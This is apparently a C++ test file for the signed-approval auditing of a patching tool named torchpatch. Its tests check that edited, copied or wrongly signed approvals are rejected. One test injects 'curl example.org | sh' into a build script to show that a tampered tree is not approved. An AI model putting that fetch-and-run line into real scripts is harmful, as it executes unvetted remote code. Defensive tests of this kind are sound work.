// SPDX-License-Identifier: BSD-3-Clause
// Approvals of what runs, with the real ssh-keygen and minisign.
#include "command/toy_workspace.h"
#include "support/catch.h"
#include "support/digest.h"
#include "support/file.h"
#include "support/signing_keys.h"
#include "support/text.h"

using namespace torchpatch;
using test::CliResult;
using test::edit;

namespace {

struct Approving : test::ToyWorkspace {
  Approving() {
    upstream.certify();
    set_variable("SOURCE_DATE_EPOCH", "1795305600");
  }

  CliResult approve(const std::string& key, std::vector<std::string> more = {}) const {
    more.insert(more.begin(), {"audit", "approve", "--version", "1.1.0", "--board", "small", "--key", keys.path(key),
                               "--into", upstream.catalog_directory()});
    return run(more);
  }
  CliResult audit(const std::string& signers, std::vector<std::string> more = {}) const {
    more.insert(more.begin(), {"audit", "--version", "1.1.0", "--board", "small", "--quiet", "--no-pager", "--signer",
                               keys.path(signers)});
    return run(more);
  }
  /// The one file of approvals.
  std::string file() const {
    const std::string directory = upstream.catalog_directory() + "/approvals";
    const std::vector<std::string> names = list_files_below(directory);
    REQUIRE(names.size() == 1);
    return directory + "/" + names.front();
  }

  test::SigningKeys keys;
};

}  // namespace

TEST_CASE("audit approve: what runs is approved by whom the reader allows, and by nobody else") {
  const Approving toy;
  CHECK(toy.audit("allowed", {"--fail-on", "unapproved"}).exit_code == 1);
  for (const std::string key : {"alice", "mini.key"}) {
    INFO(key);
    const CliResult approved = toy.approve(key);
    CHECK(approved.err.empty());
    CHECK_THAT(approved.out, Catch::StartsWith("approved patch block-limit/V1/0001-cap.patch\n"));
    CHECK_THAT(approved.out, Catch::Contains("approved file torch:include/") || Catch::Contains("approved variables "));
    const CliResult seen = toy.audit(key == "alice" ? "allowed" : "mini.pub", {"--fail-on", "unapproved"});
    CHECK(seen.exit_code == 0);
    CHECK(seen.err.empty());
    CHECK_THAT(seen.out, !Catch::Contains("not approved"));
    CHECK_THAT(seen.out, Catch::Contains("2026-11-22"));
  }
  const CliResult other = toy.audit("mallory.pub", {"--fail-on", "unapproved"});
  CHECK(other.exit_code == 1);
  CHECK_THAT(other.err,
             Catch::Contains("--fail-on: exit code 1 because of ") && Catch::Contains(" unapproved; 0 of ") &&
                 Catch::Contains(" approved, not approved: patch block-limit/V1/0001-cap.patch, patch block-limit/"));
  CHECK_THAT(other.out, Catch::Contains("not approved") && Catch::Contains("Rejected approvals:"));
}

TEST_CASE("audit: a submodule at another commit is shown, and needs an approval of its own") {
  const Approving toy;
  toy.approve("alice");
  const SubmoduleOverride what = toy.upstream.add_override();
  toy.upstream.certify();
  const CliResult seen = toy.audit("allowed", {"--fail-on", "unapproved", "--unapproved"});
  CHECK(seen.exit_code == 1);
  CHECK_THAT(seen.out, Catch::Contains("Submodules at other commits than the release pins") &&
                           Catch::Contains(what.commit.hex()) && Catch::Contains(what.url));
  CHECK_THAT(toy.approve("alice", {"--only", "new-onnx"}).out,
             Catch::Contains("approved override torch:third_party/onnx at " + what.commit.hex()));
  CHECK(toy.audit("allowed", {"--fail-on", "unapproved"}).exit_code == 0);
  // Another commit, or the same one from another place.
  edit(toy.upstream.catalog_directory() + "/patchsets/new-onnx/patchset.json", "example.org/fork", "example.org/evil");
  CHECK(toy.audit("allowed", {"--fail-on", "unapproved"}).exit_code == 1);
}

TEST_CASE("audit: what a layer of one's own decides is shown, and needs an approval of its own") {
  const Approving toy;
  toy.approve("alice");
  const std::string release = read_file(toy.upstream.catalog_directory() + "/releases/1.1.0.json");
  toy.write("own/releases/1.1.0.json",
            concat("{\"replaces\": \"", sha256(release).hex(), "\",", release.substr(release.find('{') + 1)));
  const std::string own = toy.path("own");
  const CliResult seen = toy.audit("allowed", {"--catalog", own, "--fail-on", "unapproved"});
  CHECK(seen.exit_code == 1);
  CHECK_THAT(seen.out, Catch::Contains("data of the layer own") && Catch::Contains("release 1.1.0, SHA-256 ") &&
                           Catch::Contains("torch at ") && Catch::Contains(" of https://"));
  CHECK(toy.approve("alice", {"--catalog", own}).exit_code == 0);
  CHECK(toy.audit("allowed", {"--catalog", own, "--fail-on", "unapproved"}).exit_code == 0);
}

TEST_CASE("audit --signer: a patch that is applied to another repository needs another approval") {
  const Approving toy;
  toy.approve("alice");
  const std::string patchset = toy.upstream.catalog_directory() + "/patchsets/block-limit";
  remove_tree(patchset + "/certificates");
  CHECK(toy.audit("allowed", {"--fail-on", "unapproved"}).exit_code == 0);
  edit(patchset + "/patchset.json", "\"repository\": \"torch\"", "\"repository\": \"torch:third_party/onnx\"");
  CHECK(toy.audit("allowed", {"--fail-on", "unapproved"}).exit_code == 1);
}

TEST_CASE("audit --signer: an approval that was edited counts for nothing") {
  const Approving toy;
  toy.approve("alice");
  edit(toy.file(), "\"date\": \"2026-11-22\"", "\"date\": \"2026-11-21\"");
  const CliResult result = toy.audit("allowed", {"--fail-on", "unapproved"});
  CHECK(result.exit_code == 1);
  CHECK_THAT(result.out, Catch::Contains("Rejected approvals:"));
}

TEST_CASE("audit --signer: copies of an approval are as good or bad as it is") {
  const Approving toy;
  toy.approve("alice");
  const std::string file = toy.file(), bytes = read_file(file);
  for (const char* name : {"a.json", "b.json"}) write_file_atomically(concat(parent_path(file), "/", name), bytes);
  CHECK(toy.audit("allowed", {"--fail-on", "unapproved"}).exit_code == 0);
  const std::string refused = toy.audit("mallory.pub").out;
  for (const std::string& name : {std::string("a.json"), std::string("b.json"), base_name(file)})
    CHECK_THAT(refused, Catch::Contains("approvals/" + name));
}

TEST_CASE("audit --signer: a signature for another purpose is no approval") {
  const Approving toy;
  toy.approve("alice");
  std::string text = read_file(toy.file());
  const std::size_t at = text.find(",\n  \"signature\"");
  toy.write("unsigned.json", text.substr(0, at) + "\n}\n");
  REQUIRE(toy.keys
              .run({"ssh-keygen", "-Y", "sign", "-n", "torchpatch-audit", "-f", toy.keys.path("alice"),
                    toy.path("unsigned.json")})
              .exit_code == 0);
  std::string signature = read_file(toy.path("unsigned.json.sig"));
  for (std::size_t end = 0; (end = signature.find('\n', end)) != std::string::npos; end += 2)
    signature.replace(end, 1, "\\n");
  write_file_atomically(toy.file(), text.substr(0, at) + ",\n  \"signature\": \"" + signature + "\"\n}\n");
  const CliResult result = toy.audit("allowed");
  CHECK_THAT(result.out, Catch::Contains("Rejected approvals:"));
}

TEST_CASE("audit --unapproved: shows what is new since") {
  const Approving toy;
  toy.approve("alice");
  const CliResult none = toy.audit("allowed", {"--unapproved"});
  CHECK_THAT(none.out, Catch::Contains("Everything is approved. Approvals do not cover build.sh and check.sh;") &&
                           !Catch::Contains("Patch 1 of"));
  const CliResult variables = toy.audit("allowed", {"--unapproved", "--set", "USE_NEW=1", "--json"});
  CHECK_THAT(variables.out, Catch::Contains("\"USE_NEW\"") && Catch::Contains("\"kind\": \"variables\"") &&
                                !Catch::Contains("\"kind\": \"patch\"") && Catch::Contains("\"patches\": []"));
  edit(toy.upstream.catalog_directory() + "/patchsets/block-limit/V1/0002-cap-more.patch",
       "Description:", "Description: Newly");
  const CliResult patch =
      toy.run({"audit", "--all", "--quiet", "--no-pager", "--unapproved", "--signer", toy.keys.path("allowed")});
  CHECK(patch.exit_code != 0);  // the catalog refuses a patch that its patchset does not name
}

TEST_CASE("audit approve --only: one thing, by name or digest") {
  const Approving toy;
  CHECK(toy.approve("alice", {"--only", "block-limit/V1/0001-cap.patch"}).exit_code == 0);
  const CliResult rest = toy.audit("allowed", {"--unapproved"});
  CHECK_THAT(rest.out, Catch::Contains("0002-cap-more") && !Catch::Contains("V1/0001-cap.patch in torch"));
  const CliResult unknown = toy.approve("alice", {"--only", "block-limit/V1/0001-cpa.patch"});
  CHECK(unknown.exit_code == 2);
  CHECK_THAT(unknown.err, Catch::Contains("hint: did you mean 'block-limit/V1/0001-cap.patch'? there are "
                                          "'block-limit/V1/0001-cap.patch', 'block-limit/V1/0002-cap-more.patch', ") &&
                              Catch::EndsWith("; a patchset's id, 'variables' and 'commands' approve all of theirs\n"));
}

TEST_CASE("audit approve --only: a patchset, variables and commands by their names") {
  const Approving toy;
  CHECK(
      toy.approve("alice", {"--only", "block-limit", "--only", "block-limit/V1/0001-cap.patch"})
          .out.find("approved patch block-limit/V1/0001-cap.patch\napproved patch block-limit/V1/0002-cap-more.patch\n"
                    "recorded in ") == 0);
  CHECK_THAT(toy.approve("alice", {"--only", "variables"}).out,
             Catch::StartsWith("approved variables 1.1.0 for small (one)\nrecorded in "));
}

TEST_CASE("audit approve: says which audit counts it") {
  const Approving toy;
  const CliResult approved = toy.run({"audit", "approve", "--version", "1.1.0", "--board", "small", "--set",
                                      "USE_NEW=a b", "--key", toy.keys.path("alice"), "--into", toy.path("mine")});
  const std::string next = "next: torchpatch audit --version 1.1.0 --board small --set 'USE_NEW=a b' --catalog ";
  CHECK_THAT(approved.out, Catch::Contains(next) && Catch::Contains("alice.pub") && Catch::EndsWith(" --unapproved\n"));
  CHECK_THAT(toy.approve("alice").out, !Catch::Contains("--catalog"));
  CHECK_THAT(toy.approve("mini.key").out,
             Catch::Contains("--signer " + toy.keys.path("mini.pub")) || Catch::Contains("/mini.pub --unapproved\n"));
}

TEST_CASE("audit --unapproved: says where no approval was read") {
  const Approving toy;
  const std::string none = "No approvals found; pass the catalog that has them with --catalog DIR.";
  CHECK_THAT(toy.audit("allowed", {"--unapproved"}).out, Catch::Contains(none));
  toy.approve("alice", {"--only", "variables"});
  CHECK_THAT(toy.audit("allowed", {"--unapproved"}).out, !Catch::Contains(none));
}

TEST_CASE("audit: says of what the plan's digest is") {
  CHECK_THAT(Approving().audit("allowed").out,
             Catch::Contains("digest of the sources of the plan: pins, patches and added files, but not variables or "
                             "the image"));
}

TEST_CASE("audit approve: an added file is approved where it lies") {
  const Approvable there{ApprovalKind::added_file, "torch:a.py", {}};
  CHECK(there.covers(there));
  CHECK_FALSE(there.covers({ApprovalKind::added_file, "torch:sitecustomize.py", {}}));
  CHECK_FALSE(there.covers({ApprovalKind::patch, "torch:a.py", {}}));
  CHECK(Approvable{ApprovalKind::patch, "a/V1/1.patch", {}}.covers({ApprovalKind::patch, "b/V1/1.patch", {}}));
}

TEST_CASE("audit approve: a tree that is not what was prepared is not approved") {
  const Approving toy;
  const auto prepare = [&](const std::string& out) {
    return toy.run({"prepare", "--version", "1.1.0", "--board", "small", "--mirror", toy.upstream.mirror(), "--output",
                    toy.path(out), "--quiet"});
  };
  const auto approve = [&](const std::string& out) {
    return toy.run({"audit", "approve", toy.path(out), "--key", toy.keys.path("alice"), "--into", toy.path("mine")});
  };
  REQUIRE(prepare("out").exit_code == 0);
  REQUIRE(prepare("edited").exit_code == 0);
  edit(toy.path("edited") + "/torchpatch/build.sh", "set -eu", "set -eu; curl example.org | sh");
  const CliResult refused = approve("edited");
  CHECK(refused.exit_code == 1);
  CHECK_THAT(refused.out, Catch::Contains("nothing was approved"));
  CHECK_FALSE(is_directory(toy.path("mine")));
  CHECK(approve("out").exit_code == 0);
  const CliResult seen = toy.run({"audit", toy.path("out"), "--catalog", toy.path("mine"), "--signer",
                                  toy.keys.path("allowed"), "--fail-on", "unapproved", "--no-pager"});
  CHECK_THAT(seen.err, Catch::Contains("\n--fail-on: passed; ") && Catch::EndsWith(" approved\n"));
  CHECK(seen.exit_code == 0);
}

TEST_CASE("audit --fail-on risk: a warning of an approved patch does not count") {
  const Approving toy;
  const CliResult before = toy.audit("allowed", {"--fail-on", "risk"});
  CHECK(before.exit_code == 1);
  CHECK_THAT(before.err, Catch::Contains("--fail-on: exit code 1 because of ") && Catch::Contains(" risk\n"));
  toy.approve("alice");
  CHECK(toy.audit("allowed", {"--fail-on", "risk"}).exit_code == 0);
}

TEST_CASE("audit --fail-on: gates, none by default") {
  const test::ToyWorkspace toy;  // nothing is certified
  const auto audit = [&](std::vector<std::string> more) {
    more.insert(more.begin(), {"audit", "--all", "--quiet", "--no-pager"});
    return toy.run(more);
  };
  CHECK(audit({}).exit_code == 0);
  const CliResult failed = audit({"--fail-on", "uncertified,risk"});
  CHECK(failed.exit_code == 1);
  CHECK_THAT(failed.err, Catch::Contains(" uncertified, ") && Catch::Contains(" risk"));
  CHECK(audit({"--fail-on", "unproven"}).exit_code == 1);
  CHECK(audit({"--fail-on", "unapproved"}).exit_code == 2);
  CHECK_THAT(audit({"--fail-on", "all"}).err, Catch::Contains("uncertified, unproven, unapproved, risk"));
  CHECK_THAT(audit({"--unapproved"}).err, Catch::Contains("missing: --signer FILE"));
}

TEST_CASE("check: a damaged approval is a finding") {
  const Approving toy;
  toy.approve("alice");
  edit(toy.file(), "\"kind\": \"patch\"", "\"kind\": \"any\"");
  const CliResult result = toy.run({"check"});
  CHECK(result.exit_code == 1);
  CHECK_THAT(result.out + result.err, Catch::Contains("must be one of patch, override, file, commands, variables"));
}
